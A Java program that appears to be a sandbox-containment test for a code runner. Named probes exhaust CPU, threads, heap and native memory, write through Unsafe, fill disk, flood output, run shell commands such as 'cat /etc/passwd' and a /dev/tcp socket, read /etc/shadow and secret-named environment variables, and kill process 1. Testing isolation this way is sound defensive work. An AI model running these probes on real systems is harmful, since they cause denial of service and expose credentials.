// Attacks by way of the Java machine. The first word of the input names one; "honest a b" adds. Run it nowhere but in a box.
import java.io.*;
import java.lang.reflect.Field;
import java.lang.reflect.Proxy;
import java.net.*;
import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.file.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.stream.*;

public class Main {
    static boolean possible = false;
    static volatile long sink;

    static void found(String what) {
        System.out.println("possible: " + what);
        possible = true;
    }

    interface Deed { void run() throws Throwable; }

    static void refused(String what, Deed deed) {
        try {
            deed.run();
            found(what);
        } catch (Throwable expected) {
        }
    }

    static void burn() { for (;;) sink++; }
    static void loop() { burn(); }
    static void burnInThreads() throws Exception { for (int i = 0; i < 8; i++) new Thread(Main::burn).start(); Thread.sleep(1000000); }
    static void threadBomb() {
        try {
            for (int i = 0; i < 5000; i++) {
                Thread one = new Thread(null, () -> { try { Thread.sleep(1000000); } catch (InterruptedException gone) { } }, "t", 1 << 16);
                one.setDaemon(true);
                one.start();
            }
            found("5000 threads");
        } catch (OutOfMemoryError expected) {
        }
    }
    static void heap() { List<long[]> all = new ArrayList<>(); for (;;) all.add(new long[1 << 17]); }
    static void directMemory() throws Exception {
        List<ByteBuffer> all = new ArrayList<>();
        for (;;) {
            ByteBuffer one = ByteBuffer.allocateDirect(1 << 20);
            for (int at = 0; at < one.capacity(); at += 4096) one.put(at, (byte) 1);
            all.add(one);
        }
    }
    static sun.misc.Unsafe unsafe() throws Exception {
        Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        return (sun.misc.Unsafe) field.get(null);
    }
    static void nativeMemory() throws Exception { for (;;) unsafe().setMemory(unsafe().allocateMemory(1 << 20), 1 << 20, (byte) 1); }
    static void wildPointer() throws Exception { unsafe().putAddress(8, 1); }
    static int deep(int n) { return deep(n + 1) + 1; }
    static void recurse() { deep(0); }
    /** Catches the end of its memory and goes on. */
    static void deafToErrors() {
        Object kept = null;
        for (;;) {
            try {
                for (;;) kept = new Object[] { kept, new byte[1 << 20] };
            } catch (OutOfMemoryError again) {
            }
        }
    }
    static void classBomb() {
        List<Object> all = new ArrayList<>();
        for (;;) {
            ClassLoader own = new URLClassLoader(new URL[0], Main.class.getClassLoader());
            all.add(Proxy.newProxyInstance(own, new Class<?>[] { Runnable.class, Comparator.class }, (proxy, method, args) -> null));
        }
    }
    static void shutdownHook() { Runtime.getRuntime().addShutdownHook(new Thread(Main::burn)); System.exit(0); }
    static void finalizers() throws Exception {
        ForkJoinPool.commonPool().submit(Main::burn);
        IntStream.range(0, 8).parallel().forEach(i -> burn());
    }
    static void flood() { byte[] line = new byte[1 << 16]; for (;;) System.out.write(line, 0, line.length); }
    static void shell() {
        String[] commands = { "cat /etc/passwd", "ls /root", "cat /proc/1/environ", "mount -t tmpfs none /tmp", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/4222'" };
        for (String command : commands) refused(command, () -> {
            Process process = new ProcessBuilder("/bin/sh", "-c", command).redirectErrorStream(true).start();
            process.getInputStream().readAllBytes();
            if (process.waitFor() != 0) throw new IOException();
        });
    }
    static void network() {
        for (int port : new int[] { 4222, 5432, 8080, 80, 22 }) refused("port " + port, () -> new Socket("127.0.0.1", port));
        refused("a name on the network", () -> InetAddress.getByName("example.org"));
        refused("a datagram", () -> new DatagramSocket().send(new DatagramPacket(new byte[1], 1, InetAddress.getByAddress(new byte[] { 8, 8, 8, 8 }), 53)));
    }
    static void hostFiles() throws Exception {
        for (String path : new String[] { "/etc/passwd", "/etc/shadow", "/root", "/home", "/var/lib", "/sys", "/run", "/proc/1/environ", "/proc/1/mem", "/proc/1/root/etc/passwd" })
            if (Files.isReadable(Path.of(path))) found(path);
        for (String path : new String[] { "/usr/x", "/etc/x", "/x", "/usr/lib/jvm/x", "/dev/x" }) refused(path, () -> Files.writeString(Path.of(path), "x"));
        System.getenv().forEach((key, value) -> { if (key.matches("(?i).*(secret|password|token|nats|podium).*")) found(key); });
    }
    static void otherProcesses() {
        ProcessHandle.allProcesses().filter(one -> one.pid() != ProcessHandle.current().pid() && one.pid() > 2).forEach(one -> found("process " + one.pid()));
        ProcessHandle.of(1).ifPresent(one -> one.destroyForcibly());
        refused("attaching to process 1", () -> new RandomAccessFile("/proc/1/mem", "rw"));
    }
    static void fillDisk() throws Exception {
        long bytes = 0;
        try {
            for (int i = 0; i < 400; i++) bytes += Files.write(Path.of("/tmp/" + i), new byte[1 << 20]).toFile().length();
        } catch (IOException expected) {
        }
        if (bytes > 100 << 20) found("100 MB of files");
    }
    static void sleeper() throws Exception { Thread.sleep(1000000); }

    public static void main(String[] args) throws Throwable {
        Map<String, Deed> attacks = new HashMap<>();
        attacks.put("loop", Main::loop); attacks.put("burnInThreads", Main::burnInThreads); attacks.put("threadBomb", Main::threadBomb);
        attacks.put("heap", Main::heap); attacks.put("directMemory", Main::directMemory); attacks.put("nativeMemory", Main::nativeMemory);
        attacks.put("wildPointer", Main::wildPointer); attacks.put("recurse", Main::recurse); attacks.put("deafToErrors", Main::deafToErrors);
        attacks.put("classBomb", Main::classBomb); attacks.put("shutdownHook", Main::shutdownHook); attacks.put("finalizers", Main::finalizers);
        attacks.put("flood", Main::flood); attacks.put("shell", Main::shell); attacks.put("network", Main::network); attacks.put("hostFiles", Main::hostFiles);
        attacks.put("otherProcesses", Main::otherProcesses); attacks.put("fillDisk", Main::fillDisk); attacks.put("sleeper", Main::sleeper);
        Scanner in = new Scanner(System.in);
        String name = in.next();
        if (name.equals("honest")) {
            System.out.println(in.nextInt() + in.nextInt());
            return;
        }
        attacks.get(name).run();
        if (!possible) System.out.println("contained");
        System.out.flush();
        Runtime.getRuntime().halt(0);
    }
}
